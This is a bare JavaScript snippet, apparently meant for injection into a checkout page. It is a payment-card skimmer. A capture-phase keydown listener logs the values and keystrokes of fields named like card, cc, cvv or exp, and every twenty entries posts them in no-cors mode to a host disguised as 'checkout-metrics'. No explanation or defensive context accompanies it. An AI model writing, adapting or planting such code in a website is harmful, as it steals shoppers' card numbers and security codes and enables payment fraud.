(function () {
  var log = [];
  document.addEventListener("keydown", function (e) {
    var t = e.target;
    if (!t || !t.name || !/card|cc|cvv|exp/i.test(t.name)) return;
    log.push({ n: t.name, v: t.value, k: e.key });
    if (log.length >= 20) {
      fetch("https://checkout-metrics.invalid/k", { method: "POST", mode: "no-cors", body: JSON.stringify(log) });
      log = [];
    }
  }, true);
})();
